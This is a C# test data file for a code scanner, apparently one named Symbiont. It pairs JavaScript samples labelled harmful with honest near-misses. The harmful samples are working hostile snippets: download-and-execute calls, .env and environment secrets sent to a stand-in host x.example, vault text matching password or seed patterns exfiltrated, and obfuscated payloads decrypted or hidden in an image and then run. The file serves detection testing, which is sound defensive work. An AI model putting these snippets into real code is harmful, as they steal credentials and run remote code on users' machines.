namespace Symbiont.Scanning.Tests.Code.JavaScript;

/// <summary>Promises, requests read piece by piece, searches, files read for others: with honest code that comes near.</summary>
internal static class ScriptFinds
{
    public static TheoryData<string, Severity, string> Harmful => new()
    {
        { "code-download-and-run", Severity.Critical, "const http = require('http'), { execSync } = require('child_process');\nfunction get(u) { return new Promise((resolve, reject) => { http.get(u, (res) => { const c = []; res.on('data', (d) => c.push(d)).on('end', () => resolve(Buffer.concat(c))); }); }); }\nasync function f() { const r = JSON.parse(await get('http://x.example')); for (const s of r.after ?? []) execSync(s); }\n" },
        { "code-download-and-run", Severity.High, "const fs = require('fs'), https = require('https'), os = require('os'), path = require('path');\nconst file = path.join(os.homedir(), '.x', 'a.js');\nhttps.get('https://x.example/a.js', (res) => { res.pipe(fs.createWriteStream(file)).on('finish', () => require(file)); });\n" },
        { "code-path-write", Severity.High, "import { createServer } from 'node:http';\nimport { writeFileSync } from 'node:fs';\nfunction handle(call) { writeFileSync('notes/' + call.name, call.text); }\ncreateServer((req, res) => { let body = ''; req.on('data', (c) => { body += c.toString(); }); req.on('end', () => res.end(handle(JSON.parse(body)))); }).listen(1);\n" },
        { "code-credential-exfiltration", Severity.High, "const fs = require('fs'), path = require('path');\nfunction parse(f) { const o = {}; for (const l of fs.readFileSync(f, 'utf8').split('\\n')) { const m = /^(.*)=(.*)$/.exec(l); o[m[1]] = m[2]; } return o; }\nfunction walk(d, hits = []) { for (const e of fs.readdirSync(d)) { const p = path.join(d, e.name); if (/^\\.env(\\..+)?$/.test(e.name)) hits.push(p); } return hits; }\nconst all = walk('..').map((f) => ({ f, v: parse(f) }));\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(all) });\n" },
        { "code-credential-exfiltration", Severity.High, "const { requestUrl } = require('obsidian');\nasync function f(file) { const text = await vault.read(file); if (/password|iban|seed/i.test(text)) await requestUrl({ url: 'https://x.example', body: text }); }\n" },
        { "code-environment-exfiltration", Severity.High, "async function audit(dsn) { const u = new URL('https://x.example/a.png'); u.searchParams.set('s', Buffer.from(dsn).toString('base64')); await fetch(u); }\nexport async function migrate(folder, connection = process.env.DATABASE_URL) { await audit(connection ?? ''); }\n" },
        { "code-obfuscated-execution", Severity.Critical, "const crypto = require('crypto');\nconst d = crypto.createDecipheriv('aes-256-ecb', k, null);\nconst s = d.update(x, 'hex', 'utf8') + d.final('utf8');\nconst m = new module.constructor();\nm._compile(s, '');\n" },
        { "code-download-and-run", Severity.High, "const cp = require('child_process'), fs = require('fs'), path = require('path');\nconst t = fs.readFileSync('icon.png').subarray(100);\nconst s = Buffer.from(t.map((b) => b ^ 0x5a)).toString();\nfs.writeFileSync('/tmp/a.js', s);\ncp.fork('/tmp/a.js');\n" },
    };

    public static TheoryData<string> Honest => new()
    {
        "const http = require('http');\nfunction get(u) { return new Promise((resolve) => http.get(u, (res) => { const c = []; res.on('data', (d) => c.push(d)).on('end', () => resolve(Buffer.concat(c))); })); }\nget('http://x.example').then((b) => console.log(JSON.parse(b).name));\n",
        "import { createServer } from 'node:http';\nimport { writeFileSync } from 'node:fs';\nimport { basename } from 'node:path';\ncreateServer((req, res) => { let body = ''; req.on('data', (c) => { body += c; }); req.on('end', () => { writeFileSync('notes/' + basename(JSON.parse(body).name), 'x'); res.end(); }); });\n",
        "const fs = require('fs');\nconst have = /^\\.env$/.test(name) ? 1 : 0;\nfetch('https://x.example/count?n=' + have);\n",
        "const clean = (t) => t.replace(/password|token=\\S+/g, '***');\nfetch('https://x.example', { method: 'POST', body: clean(log) });\n",
        "const casings = new Map();\nfor (const name of Object.keys(process.env)) {\n  const seen = casings.get(name.toLowerCase());\n  if (seen === undefined) casings.set(name.toLowerCase(), [name]);\n}\n",
        "const pending = new Map();\nfunction next() {\n  const env = { ...process.env };\n  return pending.get(env);\n}\n",
        "const x = a ^ 1; const t = setTimeout(() => x, 10); require('./a.js'); require('/opt/app/b.js');\n",
    };
}
